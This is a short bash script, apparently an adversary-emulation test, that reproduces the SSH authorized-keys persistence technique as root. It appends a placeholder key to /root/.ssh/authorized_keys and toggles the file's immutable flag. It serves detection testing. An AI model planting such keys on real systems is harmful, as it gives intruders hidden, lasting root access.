#!/bin/bash
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# tactic: persistence
# user: root
# does: adds a key to root and makes the file immutable
# harmless: only files of the sandbox; the key is no key

mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIForeignForeignForeignForeignForeignForeign x@x' >>/root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys 2>/dev/null
chattr -i /root/.ssh/authorized_keys 2>/dev/null
true
